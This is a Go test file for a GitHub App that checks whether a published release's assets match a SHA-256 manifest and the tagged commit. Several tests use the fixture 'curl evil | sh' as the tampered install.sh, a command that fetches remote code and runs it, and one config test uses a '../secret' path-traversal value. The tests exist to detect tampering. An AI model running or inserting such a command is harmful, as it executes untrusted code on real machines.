package release_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-github/v62/github"

	"github.com/aepgate/aepgate/checks"
	"github.com/aepgate/aepgate/internal/testkit/appkit"
	"github.com/aepgate/aepgate/internal/testkit/ghfake"
)

const relTag = "v1.2.3"

// releaseConfig has the App compare two assets.
const releaseConfigYAML = "version: 1\nrelease:\n  assets: [manifest.sha256, install.sh]\n"

// releaseWorld is a ghfake world whose default branch head carries the
// files, the manifest and the config, annotated-tagged v1.2.3.
type releaseWorld struct {
	*appkit.Live
	commit   string
	manifest string
	install  string
}

func newReleaseWorld(t *testing.T) *releaseWorld { return newReleaseWorldConfig(t, releaseConfigYAML) }

// newReleaseWorldConfig is newReleaseWorld with cfg as the repository
// config.
func newReleaseWorldConfig(t *testing.T, cfg string) *releaseWorld {
	t.Helper()
	w := &releaseWorld{Live: appkit.NewLive(t), install: "#!/bin/sh\necho v1.2.3\n"}
	files := map[string]string{"README.md": "# widgets\n", "install.sh": w.install}
	w.manifest = hexSum(files["README.md"]) + "  README.md\n" + hexSum(w.install) + "  install.sh\n"
	files["manifest.sha256"] = w.manifest
	files[".github/aepgate.yml"] = cfg
	w.commit = w.Repo.Commit("main", "release 1.2.3", files)
	w.Repo.Tag(relTag, "main", "release "+relTag)
	return w
}

func hexSum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// publish publishes v1.2.3 with the receipt and both assets, install.sh
// holding installBytes.
func (w *releaseWorld) publish(t *testing.T, installBytes string) *ghfake.Release {
	t.Helper()
	receipt, err := json.Marshal(map[string]any{
		"schemaVersion": 1, "version": "1.2.3", "tag": relTag, "commit": w.commit, "state": "adopted",
		"ownerFacingOrchestratorSessionId": "orch-1", "adoptedAt": "2026-11-29T12:00:00Z",
		"adoptions": []any{map[string]any{"project": "alpha", "coordinatorSessionId": "c-1"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return w.Repo.PublishRelease(relTag, ghfake.ReleaseOptions{Body: "Notes\n\n```json\n" + string(receipt) + "\n```\n",
		Assets: map[string][]byte{"manifest.sha256": []byte(w.manifest), "install.sh": []byte(installBytes)}})
}

// releaseRuns are the aepgate/release runs on the tagged commit.
func (w *releaseWorld) releaseRuns() []ghfake.CheckRun {
	var out []ghfake.CheckRun
	for _, r := range w.Repo.CheckRuns(w.commit) {
		if r.Name == checks.NameAppRelease {
			out = append(out, r)
		}
	}
	return out
}

// waitRelease waits for the newest aepgate/release run to conclude want.
func (w *releaseWorld) waitRelease(t *testing.T, want string) ghfake.CheckRun {
	t.Helper()
	appkit.WaitFor(t, 10*time.Second, "aepgate/release "+want, func() bool {
		rs := w.releaseRuns()
		return len(rs) > 0 && rs[len(rs)-1].Conclusion == want
	})
	rs := w.releaseRuns()
	return rs[len(rs)-1]
}

// ledgerRows are the bodies of the aepgate/release ledger rows, oldest
// first.
func (w *releaseWorld) ledgerRows(t *testing.T) []map[string]any {
	t.Helper()
	rows, err := w.App.Store().SQL.QueryContext(context.Background(), `SELECT body FROM aepgate_ledger WHERE kind = 'check_run:aepgate/release' ORDER BY seq`)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var out []map[string]any
	for rows.Next() {
		var body string
		var m map[string]any
		if err := rows.Scan(&body); err != nil || json.Unmarshal([]byte(body), &m) != nil {
			t.Fatalf("ledger row %q: %v", body, err)
		}
		out = append(out, m)
	}
	return out
}

// waitDecisions waits until the ledger holds n release decisions.
func (w *releaseWorld) waitDecisions(t *testing.T, n int) {
	t.Helper()
	appkit.WaitFor(t, 10*time.Second, fmt.Sprintf("%d release decisions", n), func() bool { return len(w.ledgerRows(t)) >= n })
	time.Sleep(100 * time.Millisecond)
}

// repoWrites are the App's writes to the repository, by route.
func (w *releaseWorld) repoWrites() map[string]int {
	out := map[string]int{}
	for _, r := range w.F.Writes() {
		if strings.HasPrefix(r.Path, "/repos/") && r.Installation == w.Inst.ID {
			out[r.Pattern]++
		}
	}
	return out
}

func TestReleaseClosedGetsSuccessOnTheTaggedCommit(t *testing.T) {
	w := newReleaseWorld(t)
	w.F.ResetLog()
	w.publish(t, w.install)
	run := w.waitRelease(t, "success")
	// published and released both arrive: two decisions, one write.
	w.waitDecisions(t, 2)
	if run.HeadSHA != w.commit || run.ExternalID != "aepgate-release:"+relTag || run.Title != "release v1.2.3 is closed" {
		t.Errorf("run %s %q on %s", run.ExternalID, run.Title, run.HeadSHA)
	}
	for _, want := range []string{"| Manifest | `manifest.sha256` |", "| Assets | `manifest.sha256`, `install.sh` |", "`release` in `.github/aepgate.yml`"} {
		if !strings.Contains(run.Summary, want) {
			t.Errorf("summary lacks %q:\n%s", want, run.Summary)
		}
	}
	if diff := cmp.Diff(map[string]int{"POST /repos/{owner}/{repo}/check-runs": 1}, w.repoWrites()); diff != "" {
		t.Errorf("writes (-want +got):\n%s", diff)
	}
	rows := w.ledgerRows(t)
	var writes []bool
	for _, r := range rows {
		writes = append(writes, r["write"].(bool))
		if r["commit"] != w.commit || r["tag"] != relTag || r["closed"] != true || r["conclusion"] != "success" {
			t.Errorf("ledger row %v", r)
		}
	}
	sort.Slice(writes, func(i, j int) bool { return !writes[i] && writes[j] })
	if diff := cmp.Diff([]bool{false, true}, writes); diff != "" {
		t.Errorf("ledger writes (-want +got):\n%s", diff)
	}
}

func TestReleaseTamperedAssetFails(t *testing.T) {
	w := newReleaseWorld(t)
	w.publish(t, "curl evil | sh\n")
	run := w.waitRelease(t, "failure")
	for _, want := range []string{"`github-release-asset-hash-mismatch:install.sh`", "identical to the file at the tag and the manifest",
		"file at the tag sha256:" + hexSum(w.install) + ", downloaded sha256:" + hexSum("curl evil | sh\n")} {
		if !strings.Contains(run.Summary, want) {
			t.Errorf("summary lacks %q:\n%s", want, run.Summary)
		}
	}
	if run.Title != "release v1.2.3 is not closed: 1 refusal" {
		t.Errorf("title %q", run.Title)
	}
}

// TestReleaseSameDeliveryTwice: the same delivery ID again is dropped at
// the door, and so is the same body under a new ID (a replay); the same
// event in another body under a new ID is judged again, reads GitHub and
// writes nothing. It also counts one evaluation's API calls.
func TestReleaseSameDeliveryTwice(t *testing.T) {
	w := newReleaseWorld(t)
	w.publish(t, w.install)
	w.waitRelease(t, "success")
	w.waitDecisions(t, 2)
	var published ghfake.Delivery
	for _, d := range w.F.Deliveries() {
		if d.Event == "release" && d.Action == "published" {
			published = d
		}
	}
	w.F.ResetLog()
	if got := appkit.Deliver(t, w.Base, "release", published.GUID, published.Payload); got != 200 {
		t.Errorf("same delivery ID: status %d, want 200 (duplicate)", got)
	}
	if got := appkit.Deliver(t, w.Base, "release", "replay-"+published.GUID, published.Payload); got != 200 {
		t.Errorf("same body, fresh delivery ID: status %d, want 200 (replayed)", got)
	}
	if got := appkit.Deliver(t, w.Base, "release", "re-"+published.GUID, appkit.CopyPayload(t, published.Payload)); got != 202 {
		t.Fatalf("fresh delivery ID: status %d", got)
	}
	w.waitDecisions(t, 3)
	if rows := w.ledgerRows(t); len(rows) != 3 || rows[2]["write"] != false {
		t.Errorf("%d decisions, last %v; want 3, the last writing nothing", len(rows), rows[len(rows)-1])
	}
	if got := w.repoWrites(); len(got) != 0 {
		t.Errorf("writes on an unchanged release: %v", got)
	}
	if n := len(w.releaseRuns()); n != 1 {
		t.Errorf("%d aepgate/release runs, want 1", n)
	}
	st := w.F.Stats()
	reads, _ := appkit.APICalls(st)
	t.Logf("one release evaluation (2 assets, 2-file manifest): %d requests, %d reads, %d answered 304: %v", st.Total, reads, st.NotModified, st.ByRoute)
	want := map[string]int{
		"POST /graphql":                                          1, // the config on the default branch
		"GET /repos/{owner}/{repo}":                              1,
		"GET /repos/{owner}/{repo}/git/ref/{ref...}":             2, // default branch, tag
		"GET /repos/{owner}/{repo}/git/tags/{sha}":               1,
		"GET /repos/{owner}/{repo}/releases/tags/{tag}":          1,
		"GET /repos/{owner}/{repo}/releases/latest":              1,
		"GET /repos/{owner}/{repo}/contents/{path...}":           3, // manifest, install.sh, README.md at the tag
		"GET /repos/{owner}/{repo}/releases/assets/{asset_id}":   2, // answered with a redirect
		"GET /_ghfake/download/{owner}/{repo}/{asset_id}/{name}": 2, // the bytes, without the token
		"GET /repos/{owner}/{repo}/commits/{ref}/check-runs":     1,
	}
	if diff := cmp.Diff(want, st.ByRoute); diff != "" {
		t.Errorf("API calls of one release evaluation (-want +got):\n%s", diff)
	}
}

// TestReleaseEditedIsReEvaluated: an asset replaced after publishing sends
// no event; the next release.edited (or the reconcile sweep) finds it.
func TestReleaseEditedIsReEvaluated(t *testing.T) {
	w := newReleaseWorld(t)
	rel := w.publish(t, w.install)
	w.waitRelease(t, "success")
	w.waitDecisions(t, 2) // published and released are both judged before the tampering
	rel.ReplaceAssetBytes("install.sh", []byte("curl evil | sh\n"))
	w.Repo.Grant("rel-manager", "write")
	owner := w.F.Client(w.F.UserToken("rel-manager"))
	if _, _, err := owner.Repositories.EditRelease(context.Background(), "acme", "widgets", rel.ID(), &github.RepositoryRelease{Name: github.String("1.2.3")}); err != nil {
		t.Fatal(err)
	}
	run := w.waitRelease(t, "failure")
	if !strings.Contains(run.Summary, "github-release-asset-hash-mismatch:install.sh") {
		t.Errorf("summary:\n%s", run.Summary)
	}
	if n := len(w.releaseRuns()); n != 1 {
		t.Errorf("%d aepgate/release runs, want the one updated", n)
	}
	want := map[string]int{"POST /repos/{owner}/{repo}/check-runs": 1, "PATCH /repos/{owner}/{repo}/check-runs/{check_run_id}": 1}
	if diff := cmp.Diff(want, w.repoWrites()); diff != "" {
		t.Errorf("the App's writes (-want +got):\n%s", diff)
	}
}

func TestReleaseReconcileFindsAReplacedAsset(t *testing.T) {
	w := newReleaseWorld(t)
	rel := w.publish(t, w.install)
	w.waitRelease(t, "success")
	w.waitDecisions(t, 2)
	rel.ReplaceAssetBytes("install.sh", []byte("curl evil | sh\n"))
	if err := w.App.Sweep(context.Background()); err != nil {
		t.Fatal(err)
	}
	if rs := w.releaseRuns(); rs[len(rs)-1].Conclusion != "failure" {
		t.Errorf("after the sweep: %s %q", rs[len(rs)-1].Conclusion, rs[len(rs)-1].Title)
	}
}

// TestReleaseBrokenConfigCannotPass: a config that cannot say what to
// verify fails the release (verified with the defaults) and says why.
func TestReleaseBrokenConfigCannotPass(t *testing.T) {
	w := newReleaseWorldConfig(t, "version: 1\nrelease:\n  assets: [../secret]\n")
	w.publish(t, w.install)
	run := w.waitRelease(t, "failure")
	for _, want := range []string{"`config-invalid`", `release.assets[0]: "../secret" must not contain '..'`, "the manifest alone", "the defaults (no usable"} {
		if !strings.Contains(run.Summary, want) {
			t.Errorf("summary lacks %q:\n%s", want, run.Summary)
		}
	}
}

// TestReleaseTagNotVersionReadsNothing: a tag that is not vX.Y.Z (a
// pre-release's, say) is recorded and neither read nor written.
func TestReleaseTagNotVersionReadsNothing(t *testing.T) {
	w := newReleaseWorld(t)
	w.Repo.Tag("v1.2.3-rc.1", "main", "candidate")
	w.F.ResetLog()
	w.Repo.PublishRelease("v1.2.3-rc.1", ghfake.ReleaseOptions{Prerelease: true})
	w.waitDecisions(t, 2) // published, prereleased
	for _, r := range w.F.Requests() {
		// (The GraphQL query is the setup commit's push, still judging
		// the open pull requests.)
		if r.Installation == w.Inst.ID && r.Pattern != "POST /graphql" {
			t.Errorf("request %s %s", r.Method, r.Path)
		}
	}
	if rows := w.ledgerRows(t); rows[0]["errors"].([]any)[0] != "version-invalid" || rows[0]["write"] != false {
		t.Errorf("ledger %v", rows)
	}
}
